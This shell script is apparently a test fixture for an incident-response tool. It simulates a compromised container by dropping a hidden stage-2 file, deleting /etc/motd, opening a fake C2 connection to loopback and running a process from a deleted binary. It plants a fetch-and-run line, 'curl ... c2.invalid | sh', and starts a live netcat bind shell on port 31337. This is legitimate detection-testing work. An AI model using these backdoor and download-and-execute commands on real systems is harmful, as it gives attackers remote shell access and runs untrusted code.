#!/bin/sh
# A sample "compromised" container for ir's demo and tests (busybox only, run as the container's
# init: `sh /sample/compromised.sh`). It plants the facts listed in expected.json:
#   - drops a file (a "stage 2" script) under /var/tmp/.cache
#   - deletes a file that came with the image (/etc/motd)
#   - listens on a port (a bind shell on 31337)
#   - copies busybox to /tmp/.x/busybox, runs it as an outbound TCP connection to a "C2"
#     listener on loopback port 4444, then deletes the binary (a process from a deleted binary)
# then prints "compromised: ready" and stays up.
set -u

mkdir -p /var/tmp/.cache
printf '%s\n' '#!/bin/sh' 'IR-SAMPLE stage2: curl -s http://c2.invalid/x | sh' > /var/tmp/.cache/stage2.sh
chmod 755 /var/tmp/.cache/stage2.sh

rm -f /etc/motd

# port_in_state FIELD HEXPORT STATE: a /proc/net/tcp{,6} row whose local (FIELD 2) or remote (3)
# port is HEXPORT, in STATE (0A listen, 01 established).
port_in_state() {
  awk -v f="$1" -v p=":$2" -v s="$3" '$f ~ (p "$") && $4 == s { found = 1 } END { exit !found }' /proc/net/tcp /proc/net/tcp6
}

# The "C2" side, on loopback, so the sample needs no network.
sleep 1000000 | nc -l -p 4444 >/dev/null &
# The backdoor: a persistent bind shell.
nc -ll -p 31337 -e /bin/sh &

for _ in $(seq 1 100); do port_in_state 2 115C 0A && break; sleep 0.1; done

mkdir -p /tmp/.x
cp /bin/busybox /tmp/.x/busybox
sleep 1000000 | /tmp/.x/busybox nc 127.0.0.1 4444 &
for _ in $(seq 1 100); do port_in_state 3 115C 01 && break; sleep 0.1; done
rm -rf /tmp/.x

echo "compromised: ready"
echo "compromised: this line goes to stderr" >&2
while :; do sleep 3600; done
